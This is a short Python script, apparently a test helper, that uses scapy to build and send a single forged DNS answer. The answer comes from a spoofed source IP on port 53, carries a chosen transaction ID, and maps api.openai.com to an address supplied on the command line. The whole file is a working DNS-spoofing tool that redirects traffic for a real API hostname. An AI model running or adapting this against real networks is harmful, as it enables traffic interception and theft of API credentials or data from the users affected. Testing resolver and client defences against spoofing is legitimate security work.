"""Send one forged DNS answer with scapy: usage: dns_spoof.py SRC_IP DST_IP DST_PORT ID ADDRESS

From SRC_IP port 53 to DST_IP:DST_PORT, transaction ID, answering api.openai.com with
ADDRESS (A or AAAA by its family). Built by scapy's own DNS layer, not by oisp."""

import ipaddress
import sys

from scapy.layers.dns import DNS, DNSQR, DNSRR
from scapy.layers.inet import IP, UDP
from scapy.layers.inet6 import IPv6
from scapy.sendrecv import send

src, dst, port, query_id, address = sys.argv[1], sys.argv[2], int(sys.argv[3]), int(sys.argv[4]), sys.argv[5]
v6 = ipaddress.ip_address(address).version == 6
qtype = "AAAA" if v6 else "A"
dns = DNS(id=query_id, qr=1, rd=1, ra=1, qd=DNSQR(qname="api.openai.com", qtype=qtype),
          an=DNSRR(rrname="api.openai.com", type=qtype, ttl=60, rdata=address))
layer = IPv6 if ":" in src else IP
send(layer(src=src, dst=dst) / UDP(sport=53, dport=port) / dns, verbose=0)
